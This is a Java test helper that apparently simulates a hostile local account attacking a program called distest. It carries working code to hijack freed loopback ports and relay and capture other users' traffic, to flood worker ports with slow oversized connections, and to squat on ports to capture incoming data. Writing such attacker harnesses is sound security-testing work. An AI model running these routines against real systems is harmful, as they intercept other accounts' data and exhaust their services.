import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.concurrent.atomic.AtomicLong;
import java.util.stream.Stream;

/**
 * Another local account attacking distest, as a test runs it ({@code runuser -u nobody -- java Neighbour.java ...}).
 * It sees only what any account sees: {@code /proc/net/tcp}, other processes' command lines, loopback ports.
 * It prints one line per thing it did; "captured N" says how many bytes of someone else's stream it got.
 *
 * <pre>
 * intercept UID       connect first to every new loopback listener of UID, bind its port once it is freed,
 *                     accept the connection meant for it and relay both ways, counting the bytes
 * flood PARENT N LEN  open N connections to the port each worker child of PARENT connects to (its command line
 *                     says it), each announcing a frame of LEN bytes, then trickling a byte a second; say
 *                     "closed K" as each is closed by the other side
 * listen PORT         bind PORT as soon as it is free, accept, count what comes, answer nothing, close after 2 s
 * </pre>
 */
public class Neighbour {
    private static final AtomicLong CAPTURED = new AtomicLong();

    public static void main(String[] args) throws Exception {
        switch (args[0]) {
            case "intercept" -> intercept(args[1]);
            case "flood" -> flood(args[1], Integer.parseInt(args[2]), Integer.parseInt(args[3]));
            case "listen" -> listen(Integer.parseInt(args[1]));
            default -> throw new IllegalArgumentException(args[0]);
        }
    }

    private static synchronized void say(String line) {
        System.out.println(line);
        System.out.flush();
    }

    private static void background(Runnable task) {
        Thread thread = new Thread(task);
        thread.setDaemon(true);
        thread.start();
    }

    /** Listening loopback ports of {@code uid}, as every account can read them (Java's IPv4 ones are in tcp6). */
    private static Set<Integer> listeners(String uid) throws IOException {
        Set<Integer> ports = new HashSet<>();
        for (String table : List.of("/proc/net/tcp", "/proc/net/tcp6")) {
            for (String line : Files.readAllLines(Path.of(table))) {
                String[] f = line.trim().split("\\s+");
                if (f.length > 7 && f[3].equals("0A") && f[7].equals(uid) && (f[1].startsWith("0100007F:")
                        || f[1].startsWith("0000000000000000FFFF00000100007F:"))) {
                    ports.add(Integer.parseInt(f[1].substring(f[1].indexOf(':') + 1), 16));
                }
            }
        }
        return ports;
    }

    private static void intercept(String uid) throws Exception {
        Set<Integer> seen = new HashSet<>(listeners(uid));
        say("ready");
        while (true) {
            for (int port : listeners(uid)) {
                if (seen.add(port)) {
                    background(() -> takeOver(port));
                }
            }
            Thread.sleep(1);
        }
    }

    private static void takeOver(int port) {
        try {
            Socket first = new Socket("127.0.0.1", port);
            say("connected to " + port);
            ServerSocket mine = null;
            long end = System.nanoTime() + 10_000_000_000L;
            while (mine == null && System.nanoTime() < end) {
                ServerSocket socket = new ServerSocket();
                try {
                    socket.setReuseAddress(true);
                    socket.bind(new InetSocketAddress("127.0.0.1", port));
                    mine = socket;
                } catch (IOException e) {
                    socket.close();
                    Thread.sleep(1);
                }
            }
            if (mine == null) {
                return; // a listener that stays: nothing to take
            }
            say("bound " + port);
            Socket victim = mine.accept();
            say("accepted on " + port);
            background(() -> relay(victim, first));
            relay(first, victim);
        } catch (IOException | InterruptedException e) {
            say("gave up on " + port + ": " + e);
        }
    }

    private static void relay(Socket from, Socket to) {
        byte[] buffer = new byte[8192];
        try (InputStream in = from.getInputStream(); OutputStream out = to.getOutputStream()) {
            for (int n; (n = in.read(buffer)) > 0; ) {
                say("captured " + CAPTURED.addAndGet(n));
                out.write(buffer, 0, n);
            }
        } catch (IOException e) {
            // one side ended
        }
    }

    private static void flood(String parent, int connections, int length) throws Exception {
        say("ready");
        Set<Integer> flooded = new HashSet<>();
        List<Socket> open = new ArrayList<>();
        while (true) {
            for (int port : workerPorts(parent)) {
                if (flooded.add(port)) {
                    for (int i = 0; i < connections; i++) {
                        try {
                            Socket socket = new Socket("127.0.0.1", port);
                            socket.getOutputStream().write(ByteBuffer.allocate(4).putInt(length).array());
                            open.add(socket);
                            background(() -> awaitClose(socket));
                        } catch (IOException e) {
                            say("refused: " + e.getMessage());
                        }
                    }
                    say("flooded " + port + " with " + connections);
                }
            }
            for (Socket socket : open) {
                try {
                    socket.getOutputStream().write(0);
                } catch (IOException e) {
                    // dropped: fine
                }
            }
            Thread.sleep(open.isEmpty() ? 5 : 1_000);
        }
    }

    private static final AtomicLong CLOSED = new AtomicLong();

    private static void awaitClose(Socket socket) {
        try {
            while (socket.getInputStream().read() >= 0) {
                // a Refused frame, perhaps
            }
        } catch (IOException e) {
            // reset: closed too
        }
        say("closed " + CLOSED.incrementAndGet());
    }

    /** The ports that children of {@code parent} running {@code WorkerMain connect 127.0.0.1:PORT} connect to. */
    private static Set<Integer> workerPorts(String parent) throws IOException {
        Set<Integer> ports = new HashSet<>();
        try (Stream<Path> processes = Files.list(Path.of("/proc"))) {
            for (Path process : processes.filter(p -> p.getFileName().toString().matches("\\d+")).toList()) {
                try {
                    String stat = Files.readString(process.resolve("stat"));
                    String ppid = stat.substring(stat.lastIndexOf(')') + 2).split(" ")[1];
                    String[] argv = Files.readString(process.resolve("cmdline")).split("\0");
                    for (int i = 0; i + 1 < argv.length; i++) {
                        if (ppid.equals(parent) && argv[i].equals("connect") && argv[i + 1].startsWith("127.0.0.1:")) {
                            ports.add(Integer.parseInt(argv[i + 1].substring("127.0.0.1:".length())));
                        }
                    }
                } catch (IOException | RuntimeException e) {
                    // gone meanwhile
                }
            }
        }
        return ports;
    }

    private static void listen(int port) throws Exception {
        ServerSocket mine = null;
        while (mine == null) {
            ServerSocket socket = new ServerSocket();
            try {
                socket.setReuseAddress(true);
                socket.bind(new InetSocketAddress("127.0.0.1", port));
                mine = socket;
            } catch (IOException e) {
                socket.close();
                Thread.sleep(5);
            }
        }
        say("bound " + port);
        while (true) {
            Socket victim = mine.accept();
            say("accepted on " + port);
            background(() -> {
                try {
                    Thread.sleep(2_000);
                    victim.close();
                } catch (IOException | InterruptedException e) {
                    // closed either way
                }
            });
            background(() -> {
                byte[] buffer = new byte[8192];
                try (InputStream in = victim.getInputStream()) {
                    for (int n; (n = in.read(buffer)) > 0; ) {
                        say("captured " + CAPTURED.addAndGet(n));
                    }
                } catch (IOException e) {
                    // ended
                }
            });
        }
    }
}
